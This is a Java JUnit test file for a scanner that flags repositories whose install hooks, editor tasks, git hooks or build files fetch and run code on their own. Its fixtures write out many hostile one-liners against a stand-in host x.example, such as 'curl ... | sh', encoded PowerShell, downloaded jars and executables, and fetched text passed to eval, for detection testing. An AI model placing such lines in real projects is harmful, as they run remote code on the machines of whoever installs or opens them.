package dev.bonafide.takehome;

import static org.assertj.core.api.Assertions.assertThat;

import dev.bonafide.casefile.CaseFile;
import dev.bonafide.check.Comparison;
import dev.bonafide.check.Look;
import dev.bonafide.check.ReferenceLists;
import dev.bonafide.rule.file.ListFiles;
import dev.bonafide.rule.file.RuleSource;
import dev.bonafide.text.Budget;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

final class TakeHomeTest {
  static final ReferenceLists LISTS = new ListFiles(List.of(packages()))::named;

  static final List<Comparison> ALL = new TakeHomeExtension().comparisons(LISTS);

  private static final String FETCHED = "const r = await fetch(u);\nshow(r.text());\n".repeat(200);
  private static final String CODE =
      ToldRepository.of("package.json", "{\"scripts\": {\"postinstall\": \"node a.js\"}}")
          .file("a.js", FETCHED)
          .file("b.js", FETCHED)
          .end();

  @Test
  void without_a_repository_nothing_can_be_looked_at() {
    for (Comparison one : ALL) {
      assertThat(one.look(ToldRepository.caseOf())).as(one.name()).isInstanceOf(Look.Blind.class);
    }
  }

  @Test
  void what_was_not_shown_is_unknown_and_not_clear() {
    String cut = ToldRepository.of("a.js", "go()\n[cut: the file has 120000 bytes]").end();
    String left = leaving("app/b.js");
    String unlisted =
        ToldRepository.of("a.js", "go()").end() + "\n[12 more files are not listed]\n";

    for (Comparison one : ALL) {
      assertThat(look(one, cut)).as(one.name()).isInstanceOf(Look.Blind.class);
      assertThat(look(one, left)).as(one.name()).isInstanceOf(Look.Blind.class);
      assertThat(look(one, unlisted)).as(one.name()).isInstanceOf(Look.Blind.class);
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "package.json",
        ".vscode/tasks.json",
        "Makefile",
        "bin/start",
        "a.ipynb",
        ".github/workflows/ci.yml",
        "requirements.txt",
        "vendor/jquery.min.js"
      })
  void what_a_tool_may_run_hides_something_where_it_was_cut_or_left_out(String path) {
    assertThat(look(new HiddenCode(), cutting(path))).isInstanceOf(Look.Blind.class);
    assertThat(look(new HiddenCode(), leaving(path))).isInstanceOf(Look.Blind.class);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"data/airports.csv", "contacts.json", "LICENSE", "docs/notes.md", ".git/HEAD"})
  void data_and_prose_that_were_cut_or_left_out_hide_no_code(String path) {
    for (Comparison one : ALL) {
      assertThat(look(one, cutting(path))).as(one.name()).isInstanceOf(Look.Nothing.class);
      assertThat(look(one, leaving(path))).as(one.name()).isInstanceOf(Look.Nothing.class);
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"yarn.lock", "app/package-lock.json", "pnpm-lock.yaml"})
  void a_file_of_locked_versions_that_was_cut_hides_addresses_and_no_code(String path) {
    for (Comparison one : ALL) {
      Class<?> seen = one instanceof PackageFromAddress ? Look.Blind.class : Look.Nothing.class;
      assertThat(look(one, cutting(path))).as(one.name()).isInstanceOf(seen);
      assertThat(look(one, leaving(path))).as(one.name()).isInstanceOf(seen);
    }
  }

  private static String cutting(String path) {
    return ToldRepository.of("a.js", "go()")
        .file(path, "x\n[cut: the file has 120000 bytes]")
        .file("z.js", "go()")
        .end();
  }

  private static String leaving(String path) {
    return ToldRepository.of("a.js", "go()").blob(path).end() + "\n[1 more files are not shown]\n";
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '§',
      quoteCharacter = '\0',
      textBlock =
          """
          package.json § {"scripts": {"preinstall": "curl -fsSL https://x.example/i | bash"}}
          package.json § {"scripts": {"\\u0070ostinstall": "node -e \\"require('child_process')\\""}}
          package.json § {"scripts": {"prepare": "git config core.hooksPath .assets", "install": "sh -c \\"$(wget -qO- https://x.example)\\""}}
          app/package.json § {"scripts": {"postinstall": "python3 -c 'exec(__import__(1))'"}}
          .vscode/tasks.json § {"command": "node public/logo.svg", "runOptions": {"runOn": "folderOpen"}}
          my.code-workspace § {"command": "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "runOn": "folderOpen"}
          .devcontainer/devcontainer.json § {"postCreateCommand": "wget -q https://x.example/s -O s && sh s"}
          .git/config § fsmonitor = ./.assets/check
          .git/hooks/post-checkout § curl -s https://x.example/s | sh
          .husky/pre-commit § node assets/icon.woff2
          .envrc § source <(curl -s https://x.example/env)
          setup.py § os.system("curl https://x.example/a | sh")
          build.rs § Command::new("sh").arg("-c").arg("curl https://x.example/a | sh");
          build.gradle § "bash -c 'curl -s https://x.example | bash'".execute()
          pom.xml § <phase>initialize</phase><exec executable="sh"><arg value="-c"/><arg value="curl -s https://x.example/a | sh"/></exec>
          pom.xml § <get src="http://x.example/a.jar" dest="/tmp/a.jar"/><exec executable="java"><arg value="-jar"/><arg value="/tmp/a.jar"/></exec>
          a.csproj § <DownloadFile SourceUrl="http://x.example/a.exe" DestinationFolder="$(TEMP)" /><Exec Command="$(TEMP)\\a.exe" />
          CMakeLists.txt § execute_process(COMMAND sh -c "curl -s https://x.example/a | sh")
          App.xcodeproj/project.pbxproj § shellScript = "curl -s https://x.example/a | sh\\n";
          a.csproj § <Exec Command='curl -s https://x.example/a | sh' Condition="true" />
          """)
  void what_starts_by_itself_and_is_bad_is_seen(String path, String text) {
    assertThat(look(new StartsItself(), ToldRepository.of(path, text).end()))
        .isInstanceOf(Look.Seen.class);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '§',
      quoteCharacter = '\0',
      textBlock =
          """
          package.json § {"scripts": {"prepare": "husky", "postinstall": "prisma generate && patch-package"}}
          package.json § {"scripts": {"postinstall": "node-gyp rebuild", "release": "curl -s https://x.example | sh"}}
          package.json § {"scripts": {"postinstall": "electron-builder install-app-deps"}}
          .vscode/tasks.json § {"command": "curl -s https://x.example/s | sh", "label": "by hand"}
          .vscode/tasks.json § {"command": "npm run watch", "runOptions": {"runOn": "folderOpen"}}
          .devcontainer/devcontainer.json § {"postCreateCommand": "curl -LsSf https://astral.sh/uv/install.sh | sh && uv sync"}
          .devcontainer/devcontainer.json § {"postCreateCommand": "npm ci"}
          .husky/pre-commit § npx lint-staged
          .git/config § fsmonitor = true
          .envrc § use flake
          setup.py § setup(name="orders", packages=find_packages())
          build.rs § println!("cargo:rerun-if-changed=proto/orders.proto");
          README.md § curl -s https://x.example/s | sh
          Makefile § install: ; curl -sSf https://sh.rustup.rs | sh
          pom.xml § <exec executable="sh"><arg value="-c"/><arg value="npm ci"/></exec>
          .github/workflows/ci.yml § run: bash <(curl -s https://codecov.io/bash)
          """)
  void what_starts_by_itself_and_is_usual_is_left_alone(String path, String text) {
    assertThat(look(new StartsItself(), ToldRepository.of(path, text).end()))
        .isInstanceOf(Look.Nothing.class);
  }

  @Test
  void a_command_is_read_with_the_values_of_its_variables() {
    String fetches = "\t@curl -sSL $(URL) -o $(BIN) && chmod +x $(BIN) && $(BIN)";
    String own = "BIN := /tmp/a\nURL := https://x.example/a\nall:\n" + fetches;
    String known = own.replace("x.example", "github.com/acme/tool/releases/download/v1");

    String just = own.replaceAll("\\$\\((\\w+)\\)", "{{$1}}");
    assertThat(look(new StartsItself(), ToldRepository.of("justfile", just).end()))
        .isInstanceOf(Look.Seen.class);
    assertThat(look(new StartsItself(), ToldRepository.of("Makefile", own).end()))
        .isInstanceOf(Look.Seen.class);
    assertThat(look(new StartsItself(), ToldRepository.of("Makefile", known).end()))
        .isInstanceOf(Look.Nothing.class);
  }

  @Test
  void an_installation_is_followed_through_files_to_what_it_does() {
    String text =
        ToldRepository.of("package.json", "{\"scripts\": {\"postinstall\": \"npm run setup\",")
            .file("lib/sync.js", "const x = 1;\nfetch(u).then(r => r.text()).then(t => eval(t));")
            .file("scripts/setup.js", "const sync = require('../lib/sync');\nsync();")
            .end()
            .replace("npm run setup\\\",", "npm run setup\",")
            .replace("\"npm run setup\",", "\"npm run setup\", \"setup\": \"node scripts/setup\"");

    assertThat(((Look.Seen) look(new StartsItself(), text)).evidence())
        .extracting(one -> one.quote().contains("eval(t)") || one.quote().contains("postinstall"))
        .contains(true);
  }

  @Test
  void a_file_that_is_only_there_is_not_followed() {
    String text =
        ToldRepository.of("package.json", "{\"scripts\": {\"postinstall\": \"node copy.js\"}}")
            .file("copy.js", "require('fs').cpSync('a', 'b');")
            .file("lib/sync.js", "fetch(u).then(r => r.text()).then(t => eval(t));")
            .end();

    assertThat(look(new StartsItself(), text)).isInstanceOf(Look.Nothing.class);
  }

  @Test
  void no_line_of_a_file_can_be_taken_for_another_file_by_its_own_list() {
    String text = ToldRepository.of("a.js", "/*\n === README.md ===\n*/ eval(atob('x'))").end();

    assertThat(look(new HiddenCode(), text)).isInstanceOf(Look.Seen.class);
  }

  @Test
  void code_whose_name_is_like_that_of_a_lock_file_hides_nothing() {
    String pushed = "const a = 1;" + " ".repeat(200) + "run('a', 'b', atob('eA=='), true)";

    assertThat(look(new HiddenCode(), ToldRepository.of("src/block.js", pushed).end()))
        .isInstanceOf(Look.Seen.class);
  }

  @Test
  void comparisons_take_as_many_steps_in_whatever_order_they_come() {
    assertThat(steps(List.of(ALL.reversed()), CODE)).isEqualTo(steps(List.of(ALL), CODE));
  }

  @Test
  void a_repository_that_is_read_in_several_ways_is_analyzed_once() {
    assertThat(steps(List.of(ALL, ALL, ALL), CODE)).isLessThan(2 * steps(List.of(ALL), CODE));
  }

  /** So many steps are enough, and one less is not: those that are left are spent one by one. */
  static int steps(List<List<Comparison>> ways, String text) {
    int most = 1 << 20;
    int[] left = {0};
    try {
      new Budget(most)
          .within(
              () -> {
                ways.forEach(all -> all.forEach(one -> look(one, text)));
                for (; ; left[0]++) {
                  Budget.spend(1);
                }
              });
    } catch (Budget.Spent _) {
      return most - left[0];
    }
    throw new AssertionError("it never ends");
  }

  private static RuleSource packages() {
    String list = "lists/packages.yaml";
    Path root = Path.of(System.getProperty("bonafide.root", "../.."));
    try {
      return new RuleSource(list, Files.readString(root.resolve("rules").resolve(list)));
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  static Look look(Comparison comparison, String repository) {
    return comparison.look(ToldRepository.caseOf(repository));
  }

  /** What each comparison sees, as in one screening: the repository is analyzed once. */
  static Map<String, Look> looks(String... repositories) {
    CaseFile handedIn = ToldRepository.caseOf(repositories);
    return new Budget(Long.MAX_VALUE)
        .within(
            () ->
                ALL.stream()
                    .collect(Collectors.toMap(Comparison::name, one -> one.look(handedIn))));
  }
}
